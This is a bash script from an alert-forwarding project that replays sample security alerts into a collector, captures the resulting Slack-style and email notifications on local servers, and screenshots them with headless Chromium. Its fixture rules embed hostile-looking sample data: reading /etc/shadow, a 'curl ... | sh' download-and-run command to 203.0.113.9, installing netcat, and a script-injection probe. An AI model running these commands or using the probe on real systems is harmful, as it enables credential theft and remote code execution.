#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# pictures.sh: what people see of alerts, on a telephone: deploy/pictures/slack.png, mail.png and digest.png. A collector sends them to a
# web server and an SMTP server of this machine; headless Chromium shows what arrived. As root; installs Chromium.
set -eu
cd "$(dirname "$0")/../.."
command -v chromium >/dev/null || apt-get install -y --no-install-recommends chromium fonts-dejavu-core >/dev/null
. tests/support/lab.sh
lab_begin
python=/usr/bin/python3
cat >"$lab/rules.yaml" <<'YAML'
- rule: Sensitive file opened
  desc: d
  condition: evt.type = close
  output: Sensitive file opened | file=/etc/shadow process=cat command=cat /etc/shadow user=www-data parent=php-fpm8.2 terminal=0
  priority: CRITICAL
- rule: Outbound connection to an unexpected address
  desc: d
  condition: evt.type = close and evt.hostname != web-1
  output: Outbound connection | connection=10.244.1.23:52114->203.0.113.9:443 process=curl command=curl -s https://203.0.113.9/update | sh user=www-data
  priority: WARNING
- rule: Package management process launched
  desc: d
  condition: evt.type = close and evt.hostname != web-1
  output: Package manager started | command=apt-get install -y netcat-openbsd user=root terminal=pts/0 <script>alert(1)</script>
  priority: NOTICE
YAML
"$bin/quiet_recording" "$lab/quiet.rec" 1 1
lab_rules=$lab/rules.yaml
lab_pki web-1 db-2
"$bin/mewsctl" pki issue "$lab/pki" --collector mail --dns localhost --ip 127.0.0.1 >/dev/null
cat >"$lab/server.py" <<'PY'
import http.server, sys
class Handler(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        body = self.rfile.read(int(self.headers["Content-Length"]))
        with open(sys.argv[2], "ab") as f:
            f.write(body.replace(b"\n", b" ") + b"\n")
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"ok")
    def log_message(self, *args):
        pass
http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
PY
lab_port
web=$port
"$python" "$lab/server.py" "$web" "$lab/slack" 2>"$lab/web.log" &
lab_pids+=("$!")
lab_port
mail=$port
"$python" tests/support/smtpd.py "$mail" "$lab" "$lab/pki/collector-mail.pem" "$lab/pki/collector-mail.key" 2>"$lab/smtpd.log" &
lab_pids+=("$!")
open() { (exec 3<>"/dev/tcp/127.0.0.1/$1") 2>/dev/null; }
lab_wait 20 open "$web" || fail "the web server did not start"
lab_wait 20 open "$mail" || fail "the SMTP server did not start"
echo s3cret >"$lab/password"
chmod 600 "$lab/password"
lab_collector -o rule.matching=all -o 'append_output[]={suggested_output: false}' -o outputs.webhook.enabled=true -o "outputs.webhook.url=http://127.0.0.1:$web/" \
	-o outputs.webhook.preset="$root/deploy/presets/slack.yaml" -o outputs.webhook.fold_window=3s -o 'outputs.webhook.condition=alert.source = syscall' \
	-o outputs.email.enabled=true -o "outputs.email.server=smtp://localhost:$mail" -o outputs.email.sender=mews@mews.example \
	-o outputs.email.to=ops@mews.example -o outputs.email.to=night@mews.example -o outputs.email.username=mews -o "outputs.email.password_file=$lab/password" \
	-o "outputs.email.tls.ca=$lab/pki/ca.pem" -o outputs.email.interval=3s -o 'outputs.email.condition=alert.source = syscall'
lab_replay web-1
lab_wait 30 test -s "$lab/mails" || fail "no mail"
"$bin/quiet_recording" "$lab/quiet.rec" 2 20
lab_replay db-2
several() { [ "$(jq -s 'map(.count) | add' "$lab/mails")" -ge 121 ] && [ "$(grep -c times "$lab/slack")" -ge 3 ]; }
lab_wait 60 several || fail "the mails and messages did not arrive: $(wc -l "$lab/mails" "$lab/slack")"
jq -r -s '.[0].html' "$lab/mails" >"$lab/mail.html"
jq -r -s 'max_by(.count).html' "$lab/mails" >"$lab/digest.html"
{ head -n 1 "$lab/slack" && grep -m 1 times "$lab/slack"; } | "$python" tests/outputs/slack_page.py >"$lab/slack.html"
mkdir -p deploy/pictures
# picture NAME HEIGHT
picture() {
	timeout 60 chromium --headless --no-sandbox --disable-gpu --hide-scrollbars --user-data-dir="$lab/chromium" --virtual-time-budget=2000 \
		--window-size="390,$2" --screenshot="deploy/pictures/$1.png" "file://$lab/$1.html" >"$lab/chromium.log" 2>&1 || fail "no picture of $1"
	[ -s "deploy/pictures/$1.png" ] || fail "no picture of $1"
	echo "made deploy/pictures/$1.png"
}
picture slack 420
picture mail 260
picture digest 750
